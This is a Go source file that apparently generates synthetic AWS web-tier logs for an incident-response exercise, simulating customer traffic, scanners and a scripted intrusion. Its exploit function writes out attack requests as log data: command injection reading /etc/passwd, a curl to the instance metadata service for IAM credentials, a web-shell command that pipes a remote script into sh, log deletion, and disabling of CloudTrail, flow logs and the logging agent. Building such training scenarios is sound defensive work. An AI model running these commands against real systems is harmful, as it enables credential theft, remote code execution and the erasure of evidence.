package main

import (
	"fmt"
	"math/rand/v2"
	"net/netip"
	"strings"
	"time"

	"case53/cmd/case53/demo"
)

// webTier is what sees requests: the load balancer, the web firewall before it, and the logs of the staging server that the
// CloudWatch agent ships, until the intruder stops it. The web servers of the portal keep theirs to themselves.
type webTier struct {
	w                  *world
	pages, agents, ids *rand.Rand
	alb, waf, host     []logged
}

// logged is an event of a log stream.
type logged struct {
	at              time.Time
	stream, message string
}

func newWebTier(w *world) *webTier {
	return &webTier{w: w, pages: seeded("pages"), agents: seeded("user agents"), ids: seeded("trace ids")}
}

// webRequest is one request, as the load balancer has it.
type webRequest struct {
	at                      time.Time
	node                    *iface
	client                  netip.AddrPort
	target                  netip.Addr // none where it was answered by the load balancer itself
	scheme, method, uri, ua string
	status                  int
	out, in                 int64 // from the client, to it
	took                    time.Duration
	rule                    string // the rule of the web firewall that refused it
}

// Ordinary pages of the portal, the ones asked for most first.
var portalPages = strings.Fields(`/ /track /assets/app.js /assets/app.css /track /login /account /orders /orders/new /api/v1/shipments /track
	/api/v1/shipments /api/v1/rates /assets/logo.svg /invoices /help /favicon.ico /documents /track /api/v1/session`)

// What the internet asks every address for.
var probePaths = strings.Fields(`/ /.env /.git/config /wp-login.php /phpinfo.php /actuator/health /robots.txt /.aws/credentials /admin /boaform/admin/formLogin
	/cgi-bin/luci /server-status /favicon.ico / /owa/ /vendor/phpunit/phpunit/phpunit.xml`)

var browsers = []string{
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Safari/605.1.15",
	"Mozilla/5.0 (X11; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0",
	"Mozilla/5.0 (Linux; Android 15; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Mobile Safari/537.36",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
}

var probers = []string{"Mozilla/5.0 zgrab/0.x", "python-requests/2.32.3", "Go-http-client/1.1", "-", "Mozilla/5.0 (compatible; CensysInspect/1.1)"}

const intruderAgent = "curl/8.5.0"

// visit is a customer's visit, as its first request.
func (l *webTier) visit(t time.Time, node *iface, client netip.AddrPort, web netip.Addr, out, in int64, took time.Duration) {
	q := webRequest{at: t.Add(20 * time.Millisecond), node: node, client: client, target: web, scheme: "https", method: "GET",
		uri: portalPages[l.pages.IntN(len(portalPages))], ua: browsers[l.agents.IntN(len(browsers))], status: 200, out: out, in: in,
		took: min(took, 900*time.Millisecond)}
	switch {
	case q.uri == "/track":
		q.uri = fmt.Sprintf("/track?no=KF%08d", l.pages.IntN(100_000_000))
	case q.uri == "/login" && l.pages.IntN(2) == 0:
		q.method, q.status = "POST", 302
	case l.pages.IntN(60) == 0:
		q.status = 404
	}
	l.request(q)
}

// probe is the internet's: at the load balancer one page without a host name, of which the firewall's common rules refuse some.
func (l *webTier) probe(t time.Time, node *iface, c conn) {
	if node.instance != "" {
		return
	}
	q := webRequest{at: t.Add(10 * time.Millisecond), node: node, client: c.client, scheme: "https", method: "GET",
		uri: probePaths[l.pages.IntN(len(probePaths))], ua: probers[l.agents.IntN(len(probers))], status: 404, out: c.turns[0].out.bytes, in: 340,
		took: time.Millisecond}
	switch {
	case strings.HasPrefix(q.uri, "/.") || strings.Contains(q.uri, "phpunit"):
		q.status, q.rule = 403, "AWS-AWSManagedRulesCommonRuleSet"
	case c.server.Port() == 80:
		q.scheme, q.status = "http", 301
	}
	l.request(q)
}

// beta are the few customers who try the new pages: the load balancer hands them to the staging server. It asks it now and then
// whether it is well; that is in no log of the load balancer's.
func (w *world) beta() {
	r, ports := seeded("beta"), seeded("ports of beta")
	staging := w.byAddr[demo.Staging]
	for i, node := range w.ifaces[:2] {
		w.every(w.from.Add(time.Duration(41+97*i)*time.Second), w.to, func() time.Duration { return 5 * time.Minute }, func(t time.Time) {
			node.as(ports, func() { w.talk(node, t, staging.addr, 80, 40*time.Millisecond, 180, 420) })
			w.web.apache(t.Add(100*time.Millisecond), node.addr, netip.Addr{}, "GET", "/health", "ELB-HealthChecker/2.0", 200, 12)
		})
	}
	w.every(w.from.Add(23*time.Minute), w.to, func() time.Duration { return between(r, 15*time.Minute, 70*time.Minute) }, func(t time.Time) {
		node := w.ifaces[r.IntN(2)]
		client := netip.AddrPortFrom(netip.AddrFrom4([4]byte{198, 18, byte(r.IntN(12)), byte(1 + r.IntN(240))}), uint16(1024+r.IntN(64000)))
		uri := fmt.Sprintf("%s?id=%d", demo.ExploitPath, 100_000+r.IntN(900_000))
		w.throughALB(ports, webRequest{at: t, node: node, client: client, target: staging.addr, scheme: "https", method: "GET", uri: uri,
			ua: browsers[r.IntN(len(browsers))], status: 200, out: size(r, 700, 1_900), in: size(r, 4_000, 9_000),
			took: between(r, 20*time.Millisecond, 300*time.Millisecond)})
	})
}

// throughALB is a request that the load balancer hands to the staging server, with its two connections.
func (w *world) throughALB(ports *rand.Rand, q webRequest) {
	server := netip.AddrPortFrom(q.node.addr, 443)
	w.carry(conn{proto: tcpProto, client: q.client, server: server, turns: tcp(q.at, q.took+50*time.Millisecond, q.out+2_000, q.in+5_000)})
	if q.rule == "" {
		q.node.as(ports, func() { w.talk(q.node, q.at.Add(time.Millisecond), q.target, 80, q.took, q.out, q.in) })
		host := q.client.Addr()
		w.web.apache(q.at.Add(110*time.Millisecond), q.node.addr, host, q.method, q.uri, q.ua, q.status, q.in)
	} else {
		q.target = netip.Addr{}
	}
	w.web.request(q)
}

// exploit is the way in that nobody guarded: a number that the beta page hands to a shell, the credentials of the instance, and
// a script that stays.
func (w *world) exploit() {
	r, ports := seeded("exploit"), seeded("ports of exploit")
	ask := func(at time.Time, method, uri string, status int, out, in int64, rule string) {
		w.at(at, func(t time.Time) {
			w.throughALB(ports, webRequest{at: t, node: w.ifaces[0], client: from(r, demo.Intruder), target: demo.Staging, scheme: "https", method: method,
				uri: uri, ua: intruderAgent, status: status, out: out, in: in, took: between(r, 30*time.Millisecond, 400*time.Millisecond), rule: rule})
		})
	}
	shell := func(at time.Time, command string) {
		ask(at, "POST", demo.ShellPath+"?c="+command, 200, size(r, 300, 420), size(r, 300, 900), "")
	}
	ask(demo.BlockedAt, "GET", demo.ExploitPath+"?id=1;cat+/etc/passwd", 403, 310, 340, "AWS-AWSManagedRulesUnixRuleSet")
	ask(demo.ExploitAt, "GET", demo.ExploitPath+"?id=1%253Bcurl%2520-s%2520http://169.254.169.254/latest/meta-data/iam/security-credentials/"+demo.StagingRole,
		200, 420, 1_327, "")
	ask(demo.ShellFrom, "POST", "/beta/upload", 201, 2_410, 310, "")
	shell(demo.ShellFrom.Add(52*time.Second), "id")
	shell(demo.ShellFrom.Add(95*time.Second), "uname+-a")
	shell(demo.FetchAt, "id;curl+-s+http://"+demo.FallbackName+"/u|sh")
	shell(demo.WipeAt, "rm+-f+/var/log/apache2/access.log")
	shell(demo.UploadFrom.Add(-11*time.Minute), "w")
	shell(demo.UploadTo.Add(3*time.Minute), "rm+-rf+/tmp/.k")

	w.at(demo.AgentStopped, func(t time.Time) {
		w.web.auth(t.Add(-time.Second), "sudo", "  deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/systemctl stop "+demo.AgentUnit)
	})
	w.byRole(demo.RuleOpened, "ec2.amazonaws.com", "AuthorizeSecurityGroupIngress",
		`{"groupId":"sg-0c53f1a97b2d4e680","ipPermissions":{"items":[{"ipProtocol":"tcp","fromPort":22,"toPort":22,"groups":{},`+
			`"ipRanges":{"items":[{"cidrIp":"0.0.0.0/0"}]},"ipv6Ranges":{},"prefixListIds":{}}]}}`)
	w.byRole(demo.TrailStopped, "cloudtrail.amazonaws.com", "StopLogging", `{"name":"`+demo.Trail+`"}`)
	w.byRole(demo.FlowLogDeleted, "ec2.amazonaws.com", "DeleteFlowLogs",
		`{"DeleteFlowLogsRequest":{"FlowLogId":{"content":"`+demo.IncidentFlowLog+`","tag":1}}}`)
}

// stagingAgent ships the staging server's logs, until it is stopped.
func (w *world) stagingAgent() {
	r, ports := seeded("agent of staging"), seeded("ports of the agent of staging")
	e := w.byAddr[demo.Staging]
	w.every(w.from.Add(2*time.Minute+11*time.Second), demo.AgentStopped, func() time.Duration { return restless(r, 8*time.Minute) }, func(t time.Time) {
		if t.Before(demo.AgentStopped) {
			e.as(ports, func() {
				w.call(e, t, "logs.eu-central-1.amazonaws.com", 443, between(r, time.Second, 5*time.Second), size(r, 4_000, 30_000), size(r, 3_000, 5_000))
			})
		}
	})
}

// served is a connection that came to the staging server itself: what its own programs write about it.
func (l *webTier) served(c *conn) {
	if c.server.Addr() != demo.Staging || c.verdict != accepted {
		return
	}
	at, client := c.turns[0].at, c.client.Addr()
	switch port := c.server.Port(); {
	case port == 22:
		l.sshd(at.Add(time.Second), c)
	case client.Is4() && l.w.cidr.Contains(client): // the load balancer's: told with the request
	case l.w.onPremises.Contains(client):
		l.apache(at.Add(120*time.Millisecond), client, netip.Addr{}, "GET", portalPages[l.pages.IntN(len(portalPages))],
			browsers[l.agents.IntN(3)], 200, c.turns[0].in.bytes)
	case port == 80 || port == 443:
		uri := probePaths[l.pages.IntN(len(probePaths))]
		status := 404
		if uri == "/" {
			status = 200
		}
		l.apache(at.Add(60*time.Millisecond), client, netip.Addr{}, "GET", uri, probers[l.agents.IntN(len(probers))], status, 274)
		if strings.HasSuffix(uri, ".php") {
			l.ship(logged{at.Add(60 * time.Millisecond), "error_log", fmt.Sprintf(
				"[%s] [php:error] [pid 812] [client %s] script '/var/www/html%s' not found or unable to stat",
				at.Add(60*time.Millisecond).Format("Mon Jan 02 15:04:05.000000 2006"), c.client, uri)})
		}
	}
}

// sshd writes of who came: one account lets deployments in by key, and its password is a guess away.
func (l *webTier) sshd(at time.Time, c *conn) {
	peer := fmt.Sprintf("from %s port %d", c.client.Addr(), c.client.Port())
	long := c.turns[len(c.turns)-1].at.Sub(c.turns[0].at) > time.Minute
	switch {
	case l.w.cidr.Contains(c.client.Addr()):
		l.auth(at, "sshd", "Accepted publickey for deploy "+peer+" ssh2: ED25519 SHA256:8mJ1n0pWq5rT7vYx2zB4cD6eF8gH0jK2lM4nP6qR8sU")
	case c.client.Addr() == demo.Intruder && long:
		l.auth(at, "sshd", "Accepted password for deploy "+peer+" ssh2")
	case c.client.Addr() == demo.Intruder:
		l.auth(at, "sshd", "Failed password for deploy "+peer+" ssh2")
	default:
		l.auth(at, "sshd", "Connection closed by authenticating user root "+strings.TrimPrefix(peer, "from ")+" [preauth]")
	}
}
